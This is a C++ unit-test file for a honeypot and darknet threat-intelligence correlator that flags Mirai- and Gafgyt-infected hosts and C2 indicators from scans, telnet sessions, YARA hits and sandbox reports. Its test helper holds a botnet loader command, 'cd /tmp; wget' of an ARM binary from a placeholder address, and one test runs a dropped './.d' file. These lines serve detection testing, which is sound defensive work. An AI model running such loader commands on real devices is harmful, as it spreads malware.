#include <gtest/gtest.h>

#include "intel/correlator.h"
#include "support/correlation_events.h"

namespace kansoku::intel {
namespace {

using namespace kansoku::testing;

constexpr Timestamp kT0 = 1'714'564'800'000'000; // 2024-05-01T12:00:00Z
constexpr Timestamp kSecond = kMicrosPerSecond;

const std::string kMiraiSha = std::string(63, 'a') + "1";
const std::string kGafgytSha = std::string(63, 'b') + "2";
const std::string kUpxSha = std::string(63, 'c') + "3";

IpAddress ip(std::string_view text) {
    return *IpAddress::parse(text);
}

class CorrelatorTest : public ::testing::Test {
protected:
    std::optional<store::InfectedHostRecord> host(std::string_view address) { return correlator_->host(ip(address)); }
    void observe(const Event& event) { correlator_->observe(event); }
    /// A telnet session from `src` that logs in (or not) and runs `input`.
    void loaderSession(const std::string& session, const std::string& src, bool success, Timestamp ts,
                       std::vector<std::string> commands = {"cd", "wget"}) {
        observe(loginEvent(session, src, success, ts));
        observe(commandEvent(session, src, "cd /tmp; wget http://192.0.2.7/m.arm7", std::move(commands), {}, ts + 1));
    }

    CorrelationConfig config_;
    std::unique_ptr<Correlator> correlator_ = std::make_unique<Correlator>(config_);
};

TEST_F(CorrelatorTest, MiraiFingerprintMakesAnInfectedHost) {
    observe(scanEvent("198.51.100.7", "mirai", {23, 2323}, kT0));
    const auto h = host("198.51.100.7");
    ASSERT_TRUE(h);
    EXPECT_EQ(h->family, "mirai");
    EXPECT_EQ(h->confidence, 60);
    ASSERT_EQ(h->reasons.size(), 1U);
    EXPECT_EQ(h->reasons[0], "darknet probes carry the mirai fingerprint (tcp ports 23,2323)");
    ASSERT_EQ(h->evidence.size(), 1U);
    EXPECT_EQ(h->evidence[0].type, "darknet.scan");
    EXPECT_EQ(h->evidence[0].ref, "tcp/23");
    EXPECT_EQ(h->evidence[0].sensor, "tokyo-1");
    EXPECT_EQ(h->first_seen, kT0 - 60 * kSecond);
    EXPECT_EQ(h->last_seen, kT0);
}

TEST_F(CorrelatorTest, GeneralPurposeScannersAndUnknownToolsAreNeverInfected) {
    observe(scanEvent("198.51.100.1", "nmap", {23, 2323}, kT0));
    observe(scanEvent("198.51.100.2", "zmap", {23}, kT0));
    observe(scanEvent("198.51.100.3", "masscan", {23}, kT0));
    observe(scanEvent("198.51.100.4", "unknown", {23}, kT0));
    for (const char* a : {"198.51.100.1", "198.51.100.2", "198.51.100.3", "198.51.100.4"}) {
        EXPECT_FALSE(host(a)) << a;
    }
    EXPECT_EQ(correlator_->counters().refused_scanner, 3U);
    EXPECT_TRUE(correlator_->takeUpdates().empty());
}

TEST_F(CorrelatorTest, BenignSourcesAreNeverInfectedByAnyRule) {
    observe(scanEvent("198.51.100.9", "mirai", {23}, kT0, /*benign=*/true));
    observe(scanEvent("198.51.100.9", "mirai", {23}, kT0 + kSecond)); // same source, record without the label
    loaderSession("00000000000000b1", "198.51.100.9", true, kT0 + 2 * kSecond);
    EXPECT_FALSE(host("198.51.100.9"));
    EXPECT_GE(correlator_->counters().refused_benign, 2U);
}

TEST_F(CorrelatorTest, BenignLabelLaterRetractsTheHost) {
    observe(scanEvent("198.51.100.9", "mirai", {23}, kT0));
    ASSERT_TRUE(host("198.51.100.9"));
    observe(scanEvent("198.51.100.9", "mirai", {23}, kT0 + kSecond, /*benign=*/true));
    EXPECT_FALSE(host("198.51.100.9"));
    EXPECT_EQ(correlator_->counters().retracted, 1U);
    EXPECT_TRUE(correlator_->takeUpdates().hosts.empty());
}

TEST_F(CorrelatorTest, SpoofedRecordsAreIgnored) {
    Event e = scanEvent("198.51.100.10", "mirai", {23}, kT0);
    e.fields["spoofed"] = true;
    observe(e);
    EXPECT_FALSE(host("198.51.100.10"));
    EXPECT_EQ(correlator_->counters().refused_spoofed, 1U);
}

TEST_F(CorrelatorTest, ReflectorVictimsAreNeverInfectedBackscatterVictimsAreNotHosts) {
    observe(attackEvent("192.0.2.80", "reflector", kT0));
    observe(scanEvent("192.0.2.80", "mirai", {23}, kT0 + kSecond)); // the victim's address, spoofed
    EXPECT_FALSE(host("192.0.2.80"));
    EXPECT_EQ(correlator_->counters().refused_victim, 1U);

    observe(attackEvent("192.0.2.81", "backscatter", kT0));
    EXPECT_FALSE(host("192.0.2.81")); // a victim is not an infected host
    observe(scanEvent("192.0.2.81", "mirai", {23}, kT0 + kSecond));
    EXPECT_TRUE(host("192.0.2.81")); // its own probes still count
}

TEST_F(CorrelatorTest, LoginThenLoaderMakesAnInfectedHost) {
    loaderSession("00000000000000c1", "198.51.100.20", true, kT0);
    const auto h = host("198.51.100.20");
    ASSERT_TRUE(h);
    EXPECT_EQ(h->family, "unknown");
    EXPECT_EQ(h->confidence, 70);
    ASSERT_EQ(h->reasons.size(), 1U);
    EXPECT_EQ(h->reasons[0], "logged in to the telnet honeypot and ran wget (session 00000000000000c1)");
    ASSERT_EQ(h->evidence.size(), 2U);
    EXPECT_EQ(h->evidence[0].type, "honeypot.login");
    EXPECT_EQ(h->evidence[1].type, "honeypot.command");
    EXPECT_EQ(h->evidence[1].ref, "00000000000000c1");
}

TEST_F(CorrelatorTest, ExecutingADroppedFileIsALoader) {
    observe(loginEvent("00000000000000c2", "198.51.100.21", true, kT0));
    observe(commandEvent("00000000000000c2", "198.51.100.21", "./.d", {"./.d"}, {".d"}, kT0 + 1));
    ASSERT_TRUE(host("198.51.100.21"));
}

TEST_F(CorrelatorTest, NoLoginOrFailedLoginOrHarmlessCommandsIsNotInfected) {
    loaderSession("00000000000000d1", "198.51.100.30", false, kT0);                          // login refused
    observe(commandEvent("00000000000000d2", "198.51.100.31", "wget x", {"wget"}, {}, kT0)); // never logged in
    observe(downloadEvent("00000000000000d2", "198.51.100.31", kMiraiSha, kT0 + 1));
    loaderSession("00000000000000d3", "198.51.100.32", true, kT0, {"uname", "cat"}); // looked around only
    EXPECT_FALSE(host("198.51.100.30"));
    EXPECT_FALSE(host("198.51.100.31"));
    EXPECT_FALSE(host("198.51.100.32"));
}

TEST_F(CorrelatorTest, SessionFromAnotherAddressIsIgnoredAndCounted) {
    observe(loginEvent("00000000000000d4", "198.51.100.33", true, kT0));
    observe(commandEvent("00000000000000d4", "198.51.100.34", "wget x", {"wget"}, {}, kT0 + 1));
    EXPECT_FALSE(host("198.51.100.33"));
    EXPECT_FALSE(host("198.51.100.34"));
    EXPECT_EQ(correlator_->counters().malformed, 1U);
}

TEST_F(CorrelatorTest, DownloadedSampleGivesTheFamilyWhicheverComesFirst) {
    // The sample's triage (YARA) after the download ...
    observe(loginEvent("00000000000000e1", "198.51.100.40", true, kT0));
    observe(downloadEvent("00000000000000e1", "198.51.100.40", kMiraiSha, kT0 + 1));
    auto h = host("198.51.100.40");
    ASSERT_TRUE(h);
    EXPECT_EQ(h->family, "unknown");
    EXPECT_EQ(h->confidence, 80);
    observe(sampleEvent(kMiraiSha, {"upx_packed_elf", "mirai_table_xor22"}, kT0 + 2));
    h = host("198.51.100.40");
    EXPECT_EQ(h->family, "mirai");
    EXPECT_EQ(h->confidence, 95); // sample family 90 + one more rule
    ASSERT_EQ(h->reasons.size(), 2U);
    EXPECT_EQ(h->reasons[0], "downloaded sample aaaaaaaaaaaa is mirai (YARA rule mirai_table_xor22)");

    // ... and before it (a sample seen again).
    observe(loginEvent("00000000000000e2", "198.51.100.41", true, kT0 + 3));
    observe(downloadEvent("00000000000000e2", "198.51.100.41", kMiraiSha, kT0 + 4));
    EXPECT_EQ(host("198.51.100.41")->family, "mirai");
}

TEST_F(CorrelatorTest, PackerRulesAreNotFamilies) {
    observe(sampleEvent(kUpxSha, {"upx_packed_elf"}, kT0));
    observe(loginEvent("00000000000000e3", "198.51.100.42", true, kT0 + 1));
    observe(downloadEvent("00000000000000e3", "198.51.100.42", kUpxSha, kT0 + 2));
    EXPECT_EQ(host("198.51.100.42")->family, "unknown");
}

TEST_F(CorrelatorTest, SandboxFingerprintGivesTheFamilyWithoutYara) {
    observe(sandboxEvent(kUpxSha, {{}, {}, "mirai", {23, 2323}}, kT0));
    observe(loginEvent("00000000000000e4", "198.51.100.43", true, kT0 + 1));
    observe(downloadEvent("00000000000000e4", "198.51.100.43", kUpxSha, kT0 + 2));
    const auto h = host("198.51.100.43");
    EXPECT_EQ(h->family, "mirai");
    EXPECT_NE(h->reasons[0].find("sandbox scan fingerprint mirai"), std::string::npos) << h->reasons[0];
}

TEST_F(CorrelatorTest, SampleFamilyTakesPrecedenceOverTheFingerprint) {
    observe(sampleEvent(kGafgytSha, {"gafgyt_commands"}, kT0));
    observe(scanEvent("198.51.100.50", "mirai", {23}, kT0 + 1));
    EXPECT_EQ(host("198.51.100.50")->family, "mirai");
    observe(loginEvent("00000000000000f1", "198.51.100.50", true, kT0 + 2));
    observe(downloadEvent("00000000000000f1", "198.51.100.50", kGafgytSha, kT0 + 3));
    EXPECT_EQ(host("198.51.100.50")->family, "gafgyt");
    // A later fingerprint does not take it back.
    observe(scanEvent("198.51.100.50", "mirai", {2323}, kT0 + 4));
    const auto h = host("198.51.100.50");
    EXPECT_EQ(h->family, "gafgyt");
    EXPECT_EQ(h->confidence, 100); // 90 + 3 more rules, capped
}

TEST_F(CorrelatorTest, ScanMatchingASandboxedFamilysProfileIsInfected) {
    observe(sampleEvent(kGafgytSha, {"gafgyt_commands"}, kT0));
    observe(sandboxEvent(kGafgytSha, {{}, {}, "unknown", {23, 2323, 80}}, kT0 + 1));
    observe(scanEvent("198.51.100.60", "unknown", {23, 80}, kT0 + 2));   // matches
    observe(scanEvent("198.51.100.61", "unknown", {80, 23}, kT0 + 2));   // another most-probed port
    observe(scanEvent("198.51.100.62", "unknown", {23, 8080}, kT0 + 2)); // a port the sample never probed
    observe(scanEvent("198.51.100.63", "nmap", {23, 80}, kT0 + 2));      // a general-purpose scanner
    const auto h = host("198.51.100.60");
    ASSERT_TRUE(h);
    EXPECT_EQ(h->family, "gafgyt");
    EXPECT_EQ(h->confidence, 70);
    EXPECT_EQ(h->reasons[0], "darknet scan (tcp ports 23,80, tool unknown) matches the scan profile of sandboxed "
                             "sample bbbbbbbbbbbb (gafgyt)");
    ASSERT_EQ(h->evidence.size(), 2U);
    EXPECT_EQ(h->evidence[1].type, "sandbox.report");
    EXPECT_EQ(h->evidence[1].ref, kGafgytSha);
    EXPECT_FALSE(host("198.51.100.61"));
    EXPECT_FALSE(host("198.51.100.62"));
    EXPECT_FALSE(host("198.51.100.63"));
}

TEST_F(CorrelatorTest, ScanBeforeTheSandboxReportMatchesWhenTheReportComes) {
    observe(scanEvent("198.51.100.64", "unknown", {23}, kT0));
    observe(scanEvent("198.51.100.65", "mirai", {23}, kT0));
    EXPECT_FALSE(host("198.51.100.64"));
    observe(sandboxEvent(kGafgytSha, {{}, {}, "unknown", {23, 2323}}, kT0 + 1)); // family not known yet
    EXPECT_FALSE(host("198.51.100.64"));
    observe(sampleEvent(kGafgytSha, {"gafgyt_commands"}, kT0 + 2));
    ASSERT_TRUE(host("198.51.100.64"));
    EXPECT_EQ(host("198.51.100.64")->family, "gafgyt");
    EXPECT_EQ(host("198.51.100.65")->family, "mirai"); // another tool: no match
}

TEST_F(CorrelatorTest, FingerprintAndMatchingProfileGiveTheSampleFamily) {
    observe(sampleEvent(kMiraiSha, {"mirai_watchdog_and_proc"}, kT0));
    observe(sandboxEvent(kMiraiSha, {{}, {}, "mirai", {23, 2323}}, kT0 + 1));
    observe(scanEvent("198.51.100.66", "mirai", {23, 2323}, kT0 + 2));
    const auto h = host("198.51.100.66");
    EXPECT_EQ(h->family, "mirai");
    EXPECT_EQ(h->confidence, 75);
    EXPECT_EQ(h->reasons.size(), 2U);
}

TEST_F(CorrelatorTest, EvidenceIsBounded) {
    config_.max_evidence = 4;
    correlator_ = std::make_unique<Correlator>(config_);
    for (int i = 0; i < 10; ++i) {
        loaderSession(fmt::format("00000000000001{:02x}", i), "198.51.100.70", true, kT0 + i * kSecond);
    }
    observe(scanEvent("198.51.100.70", "mirai", {23}, kT0 + 20 * kSecond));
    const auto h = host("198.51.100.70");
    EXPECT_EQ(h->evidence.size(), 4U);
    EXPECT_EQ(correlator_->counters().evidence_dropped, 10U * 2 + 1 - 4);
    EXPECT_EQ(h->last_seen, kT0 + 20 * kSecond);
    EXPECT_EQ(h->confidence, 75);
}

TEST_F(CorrelatorTest, RepeatedEvidenceIsOneReference) {
    for (int i = 0; i < 5; ++i) {
        observe(scanEvent("198.51.100.71", "mirai", {23}, kT0 + i * kSecond));
    }
    const auto h = host("198.51.100.71");
    ASSERT_EQ(h->evidence.size(), 1U);
    EXPECT_EQ(h->evidence[0].ts, kT0 + 4 * kSecond);
}

TEST_F(CorrelatorTest, SandboxConnectionsAndNamesBecomeC2) {
    observe(sampleEvent(kMiraiSha, {"mirai_table_xor22"}, kT0));
    observe(sandboxEvent(kMiraiSha,
                         {{{"192.0.2.10", 6667}, {"127.0.0.1", 80}, {"198.51.100.250", 23}, {"::1", 80}},
                          {{"cnc.Example.TEST.", "198.51.100.250"}, {"bad name!", ""}},
                          "",
                          {}},
                         kT0 + 1));
    const auto updates = correlator_->takeUpdates();
    ASSERT_EQ(updates.c2.size(), 2U);
    EXPECT_EQ(updates.c2[0].kind, "ip");
    EXPECT_EQ(updates.c2[0].indicator, "192.0.2.10");
    EXPECT_EQ(updates.c2[0].port, 6667);
    EXPECT_EQ(updates.c2[0].family, "mirai");
    EXPECT_EQ(updates.c2[0].samples, std::vector<std::string>{kMiraiSha});
    EXPECT_EQ(updates.c2[1].kind, "domain");
    EXPECT_EQ(updates.c2[1].indicator, "cnc.example.test");
    EXPECT_EQ(updates.c2[1].port, 0);
    // Seen again: nothing new to announce; a new sample for it is.
    observe(sandboxEvent(kMiraiSha, {{{"192.0.2.10", 6667}}, {}, "", {}}, kT0 + 2));
    EXPECT_TRUE(correlator_->takeUpdates().c2.empty());
    observe(sandboxEvent(kGafgytSha, {{{"192.0.2.10", 6667}}, {}, "", {}}, kT0 + 3));
    const auto again = correlator_->takeUpdates();
    ASSERT_EQ(again.c2.size(), 1U);
    EXPECT_EQ(again.c2[0].samples.size(), 2U);
    EXPECT_EQ(again.c2[0].family, "mirai");
}

TEST_F(CorrelatorTest, AnnouncesOnlyChangesAndPeriodicRefreshes) {
    observe(scanEvent("198.51.100.80", "mirai", {23}, kT0));
    auto u = correlator_->takeUpdates();
    ASSERT_EQ(u.hosts.size(), 1U);
    EXPECT_TRUE(u.announce[0]);
    observe(scanEvent("198.51.100.80", "mirai", {23}, kT0 + 60 * kSecond));
    u = correlator_->takeUpdates();
    ASSERT_EQ(u.hosts.size(), 1U); // the row's last_seen moves
    EXPECT_FALSE(u.announce[0]);
    EXPECT_EQ(u.hosts[0].last_seen, kT0 + 60 * kSecond);
    observe(scanEvent("198.51.100.80", "mirai", {23}, kT0 + 3601 * kSecond));
    u = correlator_->takeUpdates();
    EXPECT_TRUE(u.announce[0]); // refresh_interval (1 h) passed
    loaderSession("00000000000000f2", "198.51.100.80", true, kT0 + 3602 * kSecond);
    u = correlator_->takeUpdates();
    EXPECT_TRUE(u.announce[0]); // confidence changed
    EXPECT_TRUE(correlator_->takeUpdates().empty());
}

TEST_F(CorrelatorTest, MemoryIsBoundedAndEvictionsCounted) {
    config_.max_hosts = 1000;
    config_.max_scan_sources = 1000;
    correlator_ = std::make_unique<Correlator>(config_);
    for (uint32_t i = 0; i < 5000; ++i) {
        const std::string src = IpAddress::fromV4(0xC6120000 + i).toString(); // 198.18.0.0/16
        observe(scanEvent(src, "mirai", {23}, kT0 + i));
        observe(scanEvent(IpAddress::fromV4(0xC6130000 + i).toString(), "unknown", {23}, kT0 + i));
    }
    const auto c = correlator_->counters();
    EXPECT_LE(c.hosts, 1000U);
    EXPECT_GE(c.evicted_hosts, 3000U);
    EXPECT_GE(c.evicted_scan_sources, 3000U);
    EXPECT_TRUE(host("198.18.19.135")); // the latest (4999 = 0x1387) is kept
}

TEST_F(CorrelatorTest, HostileEventsAreCountedNeverThrown) {
    std::vector<Event> bad;
    bad.push_back(scanEvent("not an address", "mirai", {23}, kT0));
    Event e = scanEvent("198.51.100.90", "mirai", {23}, kT0);
    e.fields["dst_ports"] = "23";
    bad.push_back(e);
    e = scanEvent("198.51.100.90", "mirai", {23}, kT0);
    e.fields["dst_ports"] = Json::array({Json{{"port", 70000}}});
    bad.push_back(e);
    e = scanEvent("198.51.100.90", "mirai", {23}, kT0);
    e.fields["benign"] = "no";
    bad.push_back(e);
    e = scanEvent("198.51.100.90", "mirai", {23}, kT0);
    e.fields["first_seen"] = 12;
    bad.push_back(e);
    e = loginEvent("00000000000000a9", "198.51.100.90", true, kT0);
    e.fields["success"] = 1;
    bad.push_back(e);
    e = commandEvent("00000000000000a9", "198.51.100.90", "wget", {"wget"}, {}, kT0);
    e.fields["commands"] = Json::array({1, 2});
    bad.push_back(e);
    e = downloadEvent("00000000000000a9", "198.51.100.90", kMiraiSha, kT0);
    e.fields["sha256"] = "zz";
    bad.push_back(e);
    e = sampleEvent(kMiraiSha, {"mirai_x"}, kT0);
    e.fields["yara"] = "mirai_x";
    bad.push_back(e);
    e = sandboxEvent(kMiraiSha, {{{"192.0.2.10", 6667}}, {}, "", {}}, kT0);
    e.fields["network"]["connections"][0]["dst_port"] = "6667";
    bad.push_back(e);
    e = sandboxEvent(kMiraiSha, {}, kT0);
    e.fields["network"] = Json::array();
    bad.push_back(e);
    e = attackEvent("192.0.2.1", "reflector", kT0);
    e.fields.erase("evidence");
    bad.push_back(e);
    Event not_object = makeEvent("darknet.scan", kT0);
    not_object.fields = Json::array({1, 2, 3});
    bad.push_back(not_object);
    for (const Event& event : bad) {
        EXPECT_NO_THROW(observe(event)) << event.toJsonLine();
    }
    const auto c = correlator_->counters();
    EXPECT_EQ(c.events, bad.size());
    EXPECT_EQ(c.malformed, bad.size());
    EXPECT_FALSE(host("198.51.100.90"));
    EXPECT_TRUE(correlator_->takeUpdates().empty());
}

TEST_F(CorrelatorTest, OtherTypesAreNotRead) {
    observe(makeEvent("darknet.port_stats", kT0));
    observe(makeEvent("intel.infected_host", kT0)); // its own output, back from the bus
    EXPECT_EQ(correlator_->counters().events, 0U);
    EXPECT_TRUE(Correlator::reads("honeypot.download"));
    EXPECT_FALSE(Correlator::reads("intel.c2"));
}

} // namespace
} // namespace kansoku::intel
